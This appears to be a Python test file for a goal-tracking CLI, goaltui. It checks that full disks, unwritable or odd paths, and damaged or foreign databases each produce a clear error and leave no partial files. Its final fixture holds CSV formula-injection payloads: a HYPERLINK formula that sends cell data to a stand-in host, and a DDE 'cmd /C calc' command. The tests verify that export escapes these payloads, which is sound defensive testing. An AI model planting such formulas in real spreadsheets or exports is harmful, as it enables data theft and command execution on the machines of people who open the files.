"""Faults of the file store and hostile paths: each gives one clear sentence, never a traceback,
and leaves nothing half made.

A full disk is the file size limit of a child process (RLIMIT_FSIZE, SIGXFSZ ignored, so writes
fail with EFBIG): real, needs no mount and works as root, where a read-only folder does not. A
folder nobody can write to is a path under /proc."""

from __future__ import annotations

import csv
import os
import resource
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from goaltui.cli import main
from goaltui.config import load_config
from goaltui.model.errors import GoaltuiError
from goaltui.model.types import Checkin
from goaltui.store.checkins import append_checkin
from goaltui.store.dataset import load_dataset
from goaltui.store.db import lock_path
from goaltui.store.exporter import export_db
from goaltui.store.importer import import_path
from goaltui.store.reading import TABLE_FILES
from goaltui.store.schema import SCHEMA_VERSION
from tests.conftest import AS_OF
from tests.store_helpers import write_source

REPO = Path(__file__).resolve().parents[1]
FILE_LIMIT = 64 * 1024
FILES = list(TABLE_FILES)


def goaltui_on_a_full_disk(*args: str, limit: int = FILE_LIMIT) -> subprocess.CompletedProcess[str]:
    """Run `goaltui ARGS` in a process that cannot write a file past `limit` bytes."""

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "goaltui", *args],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        preexec_fn=small_files,
        capture_output=True,
        text=True,
        timeout=120,
    )


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main([*args, "--as-of", AS_OF.isoformat()])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def set_version(db: Path, version: str) -> None:
    con = duckdb.connect(str(db))
    con.execute("UPDATE goaltui_meta SET value = ? WHERE key = 'schema_version'", [version])
    con.close()


def test_a_newer_schema_is_refused_for_reads_too(
    tmp_path: Path, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_path(db_path, write_source(tmp_path / "src"))
    newer = SCHEMA_VERSION + 1
    set_version(db_path, str(newer))
    before = db_path.read_bytes()
    said = f"schema version {newer}, newer than this goaltui understands ({SCHEMA_VERSION})"
    for command in (["report"], ["lint"], ["export", str(tmp_path / "out")], ["init"]):
        code, text = run(capsys, *command, "--db", str(db_path))
        assert code == 1, command
        assert said in text, command
    assert not (tmp_path / "out").exists()
    assert db_path.read_bytes() == before


@pytest.mark.parametrize("version", ["abc", "0", "-1", "1.5", "", "١"])
def test_a_schema_version_that_is_not_a_whole_number_from_1_is_damage(
    tmp_path: Path, db_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    import_path(db_path, write_source(tmp_path / "src"))
    set_version(db_path, version)
    for command in (["report"], ["init"], ["checkin", "rev", "1"]):
        code, text = run(capsys, *command, "--db", str(db_path))
        assert code == 1, command
        assert f"schema version {version!r} is not a whole number from 1 up" in text, command
        assert "Traceback" not in text


def test_a_failed_first_import_on_a_full_disk_leaves_no_database(tmp_path: Path) -> None:
    db = tmp_path / "new.duckdb"
    done = goaltui_on_a_full_disk("import", str(REPO / "data" / "demo"), "--db", str(db))
    assert done.returncode == 1
    assert "no space left" in done.stderr
    assert "no transaction is active" not in done.stderr
    assert "Traceback" not in done.stderr
    assert not db.exists()
    assert not db.with_name("new.duckdb.wal").exists()
    # The sidecar lock files stay by design: removing them would race a waiting writer.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.duckdb.lock", "new.duckdb.lock.gate"]
    # The next import, with room, works.
    import_path(db, REPO / "data" / "demo")


def test_a_checkin_on_a_full_disk_says_so_and_changes_nothing(tmp_path: Path) -> None:
    db = tmp_path / "goals.duckdb"
    import_path(db, REPO / "data" / "demo")
    assert db.stat().st_size > FILE_LIMIT
    count = load_dataset(db).checkins.height
    done = goaltui_on_a_full_disk(
        "checkin", "hb-revenue", "1", "--db", str(db), "--as-of", "2026-11-16", limit=1
    )
    assert done.returncode == 1, done.stdout
    assert "no space left" in done.stderr
    assert "no transaction is active" not in done.stderr
    assert "Traceback" not in done.stderr
    assert load_dataset(db).checkins.height == count


def test_a_folder_goaltui_cannot_write_to(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, text = run(
        capsys, "import", str(write_source(tmp_path / "src")), "--db", "/proc/goaltui/x.duckdb"
    )
    assert code == 1
    assert "cannot write to /proc/goaltui" in text
    code, text = run(capsys, "init", "--db", "/proc/x.duckdb")
    assert code == 1
    assert "cannot write to" in text
    assert not Path("/proc/x.duckdb").exists()


def test_a_sqlite_file_is_named_as_such(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "goals.db"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE t (a)")
    con.commit()
    con.close()
    before = db.read_bytes()
    for command in (["report"], ["init"], ["import", str(write_source(tmp_path / "src"))]):
        code, text = run(capsys, *command, "--db", str(db))
        assert code == 1
        assert "not a goaltui database (it is a SQLite database)" in text
    assert db.read_bytes() == before


def test_init_checks_an_existing_database(
    tmp_path: Path, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, text = run(capsys, "init", "--db", str(db_path))
    assert (code, text) == (0, f"Created goaltui database {db_path}\n")
    code, text = run(capsys, "init", "--db", str(db_path))
    assert (code, text) == (0, f"Opened existing goaltui database {db_path}\n")
    con = duckdb.connect(str(db_path))
    con.execute("DROP TABLE kpis")
    con.close()
    code, text = run(capsys, "init", "--db", str(db_path))
    assert code == 1
    assert "no kpis table; it is damaged" in text
    assert "Opened existing" not in text


def test_an_empty_path_is_refused(
    tmp_path: Path,
    db_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import_path(db_path, write_source(tmp_path / "src"))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as caught:
        main(["export", "", "--db", str(db_path)])
    assert caught.value.code == 2
    assert "an empty path names nothing" in capsys.readouterr().err
    assert not (tmp_path / "units.csv").exists()


def test_export_to_places_that_are_not_folders(
    tmp_path: Path, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_path(db_path, write_source(tmp_path / "src"))
    a_file = tmp_path / "a-file"
    a_file.write_text("mine")
    blocked = tmp_path / "blocked"
    (blocked / "units.csv").mkdir(parents=True)
    for out, says in (
        (a_file, f"{a_file} is a file, not a folder"),
        (a_file / "sub", f"{a_file} is a file, not a folder"),
        (blocked, f"{blocked / 'units.csv'} is a folder, not a file"),
        (Path("/proc/goaltui-export"), "cannot write to /proc/goaltui-export"),
    ):
        code, text = run(capsys, "export", str(out), "--db", str(db_path))
        assert code == 1, out
        assert says in text, text
        assert "Traceback" not in text
    assert a_file.read_text() == "mine"
    assert sorted(p.name for p in blocked.iterdir()) == ["units.csv"]


def test_import_under_a_path_that_is_a_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("mine")
    source = write_source(tmp_path / "src")
    code, text = run(capsys, "import", str(source), "--db", str(a_file / "goals.duckdb"))
    assert code == 1
    assert f"cannot create it: {a_file} is a file, not a folder" in text
    assert a_file.read_text() == "mine"


def test_export_to_a_full_disk_leaves_no_partial_file(tmp_path: Path) -> None:
    db = tmp_path / "goals.duckdb"
    import_path(db, REPO / "data" / "demo")
    out = tmp_path / "out"
    export_db(db, out)
    before = {name: (out / f"{name}.csv").read_bytes() for name in FILES}
    assert len(before["checkins"]) > FILE_LIMIT
    append_checkin(
        db, Checkin(goal_id="hb-revenue", date=AS_OF, value=1, note="later"), today=AS_OF
    )
    done = goaltui_on_a_full_disk("export", str(out), "--db", str(db), "--as-of", "2026-11-16")
    assert done.returncode == 1
    assert "no space left" in done.stderr and "no file was written" in done.stderr
    # The earlier export is there, whole; nothing of the failed one is.
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{name}.csv" for name in FILES)
    assert {name: (out / f"{name}.csv").read_bytes() for name in FILES} == before
    fresh = tmp_path / "fresh"
    done = goaltui_on_a_full_disk("export", str(fresh), "--db", str(db), "--as-of", "2026-11-16")
    assert done.returncode == 1
    assert not fresh.exists()


def test_a_config_file_that_is_a_folder(tmp_path: Path) -> None:
    folder = tmp_path / "config.toml"
    folder.mkdir()
    with pytest.raises(GoaltuiError, match="the config file is a folder"):
        load_config(folder)


def test_a_home_folder_of_nobody(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, text = run(capsys, "report", "--db", "~nouser-goaltui/x.duckdb")
    assert code == 1
    assert "no such user" in text
    monkeypatch.setenv("GOALTUI_DB", "~nouser-goaltui/x.duckdb")
    code, text = run(capsys, "report")
    assert code == 1
    assert "$GOALTUI_DB: ~nouser-goaltui/x.duckdb: no such user" in text


FORMULAS = {
    "units": """id,name,parent_id,kind
hb,=HYPERLINK("http://x.example/?q="&A1),,org
sales,@SUM(A1:A9),hb,team
kim,+1+1,sales,person
hr,-2 heads,hb,team
""",
    "kpis": """id,unit_id,name,unit,direction,aggregation,period,target_mode,target,parent_id,\
category,description
rev,hb,=cmd|' /C calc'!A0,KRW,at_most,sum,quarter,,-5,,\tsales,
""",
    "objectives": "id,unit_id,title,period,parent_id,description\n",
    "key_results": "id,objective_id,title,unit,direction,aggregation,target_mode,target,"
    "baseline,weight,kpi_id\n",
    "checkins": """goal_id,date,value,denominator,confidence,note,author
rev,2026-10-15,-250,,7,-5 after returns,kim
""",
    "targets": "goal_id,period,target\n",
}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_export_escapes_formulas_and_never_numbers(tmp_path: Path, db_path: Path) -> None:
    import_path(db_path, write_source(tmp_path / "src", dict(FORMULAS)))
    export_db(db_path, tmp_path / "out")
    units = {row["id"]: row["name"] for row in rows(tmp_path / "out" / "units.csv")}
    assert units == {
        "hb": '\'=HYPERLINK("http://x.example/?q="&A1)',
        "sales": "'@SUM(A1:A9)",
        "kim": "'+1+1",
        "hr": "'-2 heads",
    }
    (kpi,) = rows(tmp_path / "out" / "kpis.csv")
    assert kpi["name"] == "'=cmd|' /C calc'!A0"
    assert kpi["target"] == "-5"
    (checkin,) = rows(tmp_path / "out" / "checkins.csv")
    assert checkin["value"] == "-250"
    assert checkin["note"] == "'-5 after returns"
    assert checkin["author"] == "kim"


def test_report_csv_escapes_formulas_and_never_numbers(
    tmp_path: Path, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_path(db_path, write_source(tmp_path / "src", dict(FORMULAS)))
    code, text = run(capsys, "report", "--format", "csv", "--db", str(db_path))
    assert code == 0
    (row,) = list(csv.DictReader(text.splitlines()))
    assert row["name"] == "'=cmd|' /C calc'!A0"
    assert row["target"] == "-5"
    assert row["actual"] == "-250"
    assert lock_path(db_path).exists()
